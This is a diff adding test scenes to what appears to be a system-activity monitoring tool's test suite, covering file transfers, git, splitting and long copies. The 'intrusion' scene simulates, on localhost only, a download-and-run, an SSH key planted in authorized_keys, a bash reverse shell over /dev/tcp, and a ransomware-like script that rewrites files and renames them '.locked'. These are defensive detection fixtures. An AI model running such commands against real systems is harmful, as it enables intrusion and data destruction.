@@ -119,6 +119,30 @@ SCENES = {
         KEYS + "printf 'b\\na\\n' > /home/bob/list; chown bob: /home/bob/list",
         "root",
     ),
+    "transfers": Scene(
+        "alice copies several files to bob's account and back, with scp, sftp and rsync; both ends",
+        f"{SSHD}\nprintf 'put 1\\nget 1 got\\n' > batch\n"
+        f"{AS_ALICE} scp -q -r -P {PORT} d bob@127.0.0.1:; {AS_ALICE} scp -q -P {PORT} bob@127.0.0.1:d/1 1\n"
+        f"{AS_ALICE} sftp -q -P {PORT} -b batch bob@127.0.0.1 >/dev/null\n"
+        f"{AS_ALICE} rsync -a -e 'ssh -p {PORT}' d/ bob@127.0.0.1:e; {AS_ALICE} rsync -a -e 'ssh -p {PORT}' bob@127.0.0.1:e f\n"
+        "kill %1; wait",
+        KEYS + "mkdir d; for n in 1 2 3 4; do echo $n > d/$n; done",
+        "root",
+    ),
+    "intrusion": Scene(
+        "a program downloaded and run by a shell, a key let in, a shell for somebody elsewhere, files rewritten and"
+        " renamed by one process, and a program that removes itself",
+        """
+        python3 -I -m http.server -b 127.0.0.1 -d www 8080 >/dev/null 2>&1 & sleep 1
+        curl -s -q -O http://127.0.0.1:8080/tool; chmod +x tool; ./tool; kill %1; wait
+        mkdir -p .ssh; echo 'ssh-ed25519 AAAA' >> .ssh/authorized_keys
+        python3 -ISc 'import socket; s = socket.create_server(("127.0.0.1", 4444)); c = s.accept()[0]; c.send(b"exit\\n"); c.recv(1)' & sleep 1
+        bash -c 'exec bash --norc -i >& /dev/tcp/127.0.0.1/4444 0>&1'; wait
+        python3 -IS change.py; cp /bin/rm mine; ./mine mine""",
+        "mkdir www d; printf '#!/bin/sh\\ntrue\\n' > www/tool; for n in $(seq 60); do echo $n > d/$n; done; cat > change.py <<'.'\n"
+        'import glob, os\nfor name in sorted(glob.glob("d/*")):\n    with open(name, "r+b") as file:\n        data = file.read()\n'
+        '        file.seek(0)\n        file.write(data[::-1])\n    os.rename(name, name + ".locked")\n.',
+    ),
     "vim": Scene(
         "an interactive vim: an existing file is opened, a line typed, `:w`, `:q`",
         "{ sleep 1; printf 'Omore\\e'; sleep 1; printf ':w\\r'; sleep 1; printf ':q\\r'; sleep 1; } |"
@@ -200,6 +224,24 @@ SCENES = {
         "echo kept > kept; echo idle > idle; cat > keep.py <<'.'\n"
         'import os, time\na = os.open("kept", os.O_RDWR)\nb = os.open("idle", os.O_RDONLY)\nos.read(a, 9)\nos.read(b, 9)\n'
         'time.sleep(2.5)\nos.write(a, b"more")\ntime.sleep(1)\nos.close(a)\nos.close(b)\n.',
+        options=("--long-open", "1"),
+    ),
+    "split-and-join": Scene(
+        "a file cut into pieces, put together again, packed and removed, by programs under their names and under another",
+        "split -l 40 s; cat xa? > back; cp back copy; ./tool -q copy; rm xa? s; rm -r d",
+        "seq 100 > s; mkdir -p d/e; touch d/1 d/e/2; cp /usr/bin/xz tool",
+    ),
+    "git": Scene(
+        "a change recorded in a branch, looked at, and taken back",
+        "cd r; echo 2 > f; git commit -qam two; git status; git checkout -q HEAD~1",
+        "git init -q r; cd r; git config user.name alice; git config user.email alice@demo; echo 1 > f; git add f; git commit -qm one",
+    ),
+    "long-copy": Scene(
+        "a copy that takes longer than the limit (`--long-open 1`) and is told of in between",
+        "python3 -IS copy.py",
+        "head -c 1000000 /dev/zero > a; cat > copy.py <<'.'\n"
+        'import time\na = open("a", "rb", 0)\nb = open("b", "wb", 0)\nwhile data := a.read(100000):\n    b.write(data)\n'
+        "    time.sleep(0.3)\n.",
         options=("--long-open", "1"),
     ),
     "fork-and-redirect": Scene(
